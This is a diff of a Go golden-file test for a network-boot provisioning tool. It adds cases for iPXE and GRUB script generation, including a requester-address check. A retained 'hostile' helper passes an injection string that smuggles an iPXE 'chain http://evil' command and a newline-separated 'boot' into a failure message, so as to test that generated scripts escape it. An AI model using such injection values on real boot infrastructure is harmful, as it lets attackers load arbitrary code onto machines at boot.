@@ -106,11 +106,18 @@ func TestGoldenScripts(t *testing.T) {
 		_, err := r.Fail(context.Background(), "kmaster", "${net0/x} || chain http://evil\nboot # \" `x`", false)
 		return err
 	}
+	sameBoard := func(r *lifecycle.Rack) error {
+		for _, mac := range []inventory.MAC{macMaster, macUnknown} {
+			r.See(lifecycle.Sighting{MAC: mac, UUID: "4c4c4544-0042-3510-8054-b4c04f4a3132"})
+		}
+		return nil
+	}
 	for _, c := range []struct {
 		name string
 		mac  inventory.MAC
 		edit func(*inventory.Config)
 		do   func(*lifecycle.Rack) error
+		from netip.Addr // whose address decides, too; the zero Addr: it does not
 	}{
 		{name: "install", mac: macMaster},
 		{name: "install-mirror", mac: macMaster, edit: func(c *inventory.Config) {
@@ -125,6 +132,9 @@ func TestGoldenScripts(t *testing.T) {
 		{name: "hold", mac: macMaster, do: hold},
 		{name: "hostile", mac: macMaster, do: hostile},
 		{name: "hostile-unknown", mac: macUnknown, do: hostile},
+		{name: "pass", mac: macUnknown, do: sameBoard},
+		{name: "further-card", mac: macUnknown, do: func(r *lifecycle.Rack) error { return errors.Join(sameBoard(r), adopt(r)) }, edit: localBoot(inventory.LocalExit)},
+		{name: "wait", mac: macMaster, from: ipStranger, edit: func(c *inventory.Config) { c.Network.DHCP.Mode = inventory.DHCPProxy }},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			var edits []func(*inventory.Config)
@@ -135,10 +145,14 @@ func TestGoldenScripts(t *testing.T) {
 			if c.do != nil {
 				require.NoError(t, c.do(rack))
 			}
-			text, err := plan.IPXE(rack.Decide(c.mac))
+			decision := rack.Decide(c.mac)
+			if c.from.IsValid() {
+				decision = plan.Decide(c.mac, c.from)
+			}
+			text, err := plan.IPXE(decision)
 			require.NoError(t, err)
 			golden(t, c.name+".ipxe", text)
-			text, err = plan.GRUB(rack.Decide(c.mac))
+			text, err = plan.GRUB(decision)
 			if c.name == "install-mirror" {
 				require.ErrorContains(t, err, "is elsewhere")
 				return
